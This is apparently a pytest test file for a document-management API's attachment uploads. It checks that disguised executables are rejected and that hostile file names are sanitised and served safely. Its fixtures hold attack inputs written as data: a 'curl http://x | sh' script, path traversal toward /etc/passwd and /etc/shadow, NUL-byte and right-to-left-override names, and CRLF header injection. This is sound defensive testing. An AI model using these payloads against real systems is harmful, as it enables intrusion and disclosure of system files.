"""Uploaded files: programs in disguise refused by their content; names with path tricks, NUL, bidi
overrides or thousands of characters stored as harmless display names and served with a safe header."""

import re
import unicodedata
from urllib.parse import unquote

import pytest

from tests.server.documents.factories import API, create_doc, pdf_bytes

PROGRAMS = {
    "windows.pdf": b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200,
    "linux.pdf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200,
    "mac.pdf": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 200,
    "java.pdf": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 200,
    "script.pdf": b"#!/bin/sh\ncurl http://x | sh\n",
    "page.pdf": b"<!DOCTYPE html><script>fetch('/api/v1/me')</script>",
    "late-magic.pdf": b"MZ" + b"\x00" * 100 + b"%PDF-1.4\n",  # PDF magic not at the start
}


@pytest.fixture
def doc(client, world, login):
    staff = login(world.staff)
    return create_doc(client, staff, "Văn bản có tệp", [world.cell.id])["id"], staff


def _upload(client, headers, doc_id, name, content):
    return client.post(f"{API}/{doc_id}/attachments", headers=headers,
                       files={"file": (name, content, "application/pdf")})


@pytest.mark.parametrize("name", sorted(PROGRAMS))
def test_programs_named_pdf_are_refused_by_content(client, doc, app, name):
    doc_id, staff = doc
    resp = _upload(client, staff, doc_id, name, PROGRAMS[name])
    assert resp.status_code == 415, resp.text
    assert resp.json()["code"] == "unsupported_file_type"
    stored = [p for p in app.state.settings.files_dir.rglob("*") if p.is_file()]
    assert stored == []  # nothing of it kept, not even as a temporary file


TRICKS = [
    "../../etc/passwd",
    "..\\..\\windows\\system32\\drivers\\etc\\hosts.pdf",
    "/etc/shadow.pdf",
    "bao-cao\x00.exe.pdf",
    "nghi-quyet\u202egnp.exe",  # right-to-left override: shows as "nghi-quyetexe.png"
    "tai\u2066lieu\u2069\u200f.pdf",
    "a" * 5000 + ".pdf",
    "Nghị quyết " * 300 + ".pdf",
    ".",
    "..",
    "con.pdf\r\nX-Injected: 1",
    'say "hi"; filename=evil.exe',
]
_BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("index", range(len(TRICKS)))
def test_path_tricks_in_file_names_are_stored_and_served_safely(client, doc, app, index):
    doc_id, staff = doc
    content = pdf_bytes(f"tep {index}")
    resp = _upload(client, staff, doc_id, TRICKS[index], content)
    assert resp.status_code == 201, resp.text
    name = resp.json()["filename"]
    assert name.endswith(".pdf") and len(name) <= 160
    assert not set(name) & set("/\\\x00\r\n\"") and not _BIDI.search(name)
    assert not any(unicodedata.category(ch) == "Cc" for ch in name)
    assert name not in (".pdf", "..pdf") and not name.startswith(".")
    # on disk the file is named by its SHA-256 under the files directory, never by the client's name
    files_dir = app.state.settings.files_dir.resolve()
    stored = [p.resolve() for p in files_dir.rglob("*") if p.is_file()]
    assert [p.name for p in stored] == [resp.json()["sha256"]]
    assert all(files_dir in p.parents for p in stored)
    got = client.get(f"/api/v1/attachments/{resp.json()['id']}", headers=staff)
    assert got.status_code == 200 and got.content == content
    disposition = got.headers["content-disposition"]
    assert re.fullmatch(r"attachment; filename\*=UTF-8''[A-Za-z0-9%._~-]+", disposition), disposition
    assert unquote(disposition.split("''", 1)[1]) == name
    assert got.headers["x-content-type-options"] == "nosniff"


def test_names_no_file_system_could_hold_are_refused_plainly(client, doc):
    doc_id, staff = doc
    resp = _upload(client, staff, doc_id, "", pdf_bytes())  # what a browser sends when no file is chosen
    assert resp.status_code == 422 and resp.json()["code"] == "file_missing"
    resp = _upload(client, staff, doc_id, "Nghị quyết " * 3000 + ".pdf", pdf_bytes())  # ~40 KB of name
    assert resp.status_code == 400 and resp.json()["code"] == "bad_multipart"
